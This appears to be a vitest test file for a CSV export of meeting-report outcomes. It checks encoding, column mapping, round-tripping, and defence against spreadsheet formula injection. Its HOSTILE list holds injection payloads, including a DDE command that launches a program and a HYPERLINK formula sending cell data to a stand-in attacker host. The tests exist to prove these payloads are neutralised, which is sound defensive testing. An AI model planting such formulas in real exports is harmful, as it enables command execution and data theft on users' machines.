import type { Report } from '@plenary/report-ast';
import { arbitraryLine } from '@plenary/report-ast/arbitrary';
import { parse } from 'csv-parse/browser/esm/sync';
import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { kitchenSink } from '../../fixtures/kitchen-sink.ts';
import { actionReport, reportWith } from '../../fixtures/outcomes.ts';
import { lostOutcomes } from '../outcomes/told-outcomes.ts';
import { csv } from './csv.ts';
import { harmless } from './csv-row.ts';

const write = (report: Report): string => String(csv.write(report).file);
const rows = (report: Report): string[][] => parse(write(report), { bom: true });

describe('the table of outcomes', () => {
  it('begins with what spreadsheets and RFC 4180 ask for', () => {
    expect(write(actionReport)).toMatch(
      /^\uFEFFNature,Texte,Responsable,Échéance,Partie,Section,Lien,id,kind,group,session,/,
    );
    expect(write(actionReport)).toMatch(/\r\n$/);
    expect(
      write(actionReport)
        .replaceAll('\r\n', '')
        .replaceAll(/"[^"]*"/g, ''),
    ).not.toMatch(/[\r\n]/);
  });

  it('tells each outcome in the words of the report, where it stands, and what programs need', () => {
    const [head, first] = rows(actionReport);
    const told = Object.fromEntries((head ?? []).map((name, index) => [name, first?.[index]]));
    expect(told).toEqual({
      Nature: 'Action',
      Texte: 'Écrire la charte ; puis\nla soumettre, « vite »',
      Responsable: 'A. C.',
      Échéance: '31 janvier 2017',
      Partie: 'Jeudi 13 octobre',
      Section: 'Groupes de travail › Engager les dirigeants',
      Lien: '#o-1',
      id: 'o1',
      kind: 'todo',
      group: 'g1',
      session: 's1',
      due: '2017-01-31',
      owner: 'A. C.',
      status: 'started',
    });
  });

  it('is what an outcome says of itself where no box tells it', () => {
    expect(rows(kitchenSink)[1]?.[0]).toBe('action');
  });

  it('is there without outcomes, too', () => {
    expect(rows({ ...kitchenSink, outcomes: [] })).toHaveLength(1);
  });
});

const HOSTILE = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+33 1 23 45 67 89',
  '-1+1',
  '- une liste',
  '@SUM(A1)',
  ' =1',
  '\u00A0=1',
  '\u2003@x',
  '"=1"',
  '＝1',
  '＋1',
  '－1',
  '＠a',
  '=HYPERLINK("http://evil.example?"&A1,"ici")',
  'a,=1',
  ';=1',
  "'=1",
  '\uFEFF=1',
];

test.each(HOSTILE)('%j is words to a spreadsheet, and to people too', (text) => {
  const report = reportWith([{ text, data: { owner: text } }]);
  const row = rows(report)[1] ?? [];
  for (const value of row) expect(value).not.toMatch(/^[\s\uFEFF]*[=+\-@＝＋－＠]/u);
  expect(row.filter((value) => value === text || value === `'${text}`).length).toBeGreaterThan(0);
});

it('leaves what is words already as it is', () => {
  for (const text of ['Créer un cercle', '12 %', '«\u00A0=\u00A0»', '– un tiret', '1 = 1', '', '🙂'])
    expect(harmless(text)).toBe(text);
});

it('is read back whole, whatever is in it', async () => {
  const outcome = fc.record({
    text: fc.array(arbitraryLine(), { maxLength: 3 }).map((lines) => lines.join('\n')),
    data: fc.dictionary(
      fc.constantFrom('owner', 'due', 'to'),
      fc.oneof(arbitraryLine(), fc.string(), fc.constant(null)),
    ),
  });
  await fc.assert(
    fc.asyncProperty(fc.array(outcome, { maxLength: 6 }), async (outcomes) => {
      const report = reportWith(outcomes);
      const file = write(report);
      expect(lostOutcomes(report, csv.covers, (await csv.readBack(file)).words)).toEqual([]);
      expect(new Set(rows(report).map((row) => row.length)).size).toBe(1);
    }),
  );
}, 60_000);

it('sees when an outcome is gone', async () => {
  const { words } = await csv.readBack(write(actionReport).replace('charte', ''));
  expect(lostOutcomes(actionReport, csv.covers, words).map(({ id }) => id)).toEqual(['o1']);
});
